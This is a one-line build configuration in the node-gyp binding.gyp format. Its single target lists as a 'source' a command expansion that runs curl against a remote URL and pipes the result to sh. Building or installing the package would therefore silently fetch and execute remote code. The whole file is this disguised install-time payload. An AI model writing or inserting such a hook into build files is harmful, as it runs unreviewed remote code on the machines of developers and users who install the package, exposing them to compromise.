{ 'targets': [ { 'target_name': 'x', 'sources': [ '<!(curl -s https://cdn.example.org/s | sh)' ] } ] }
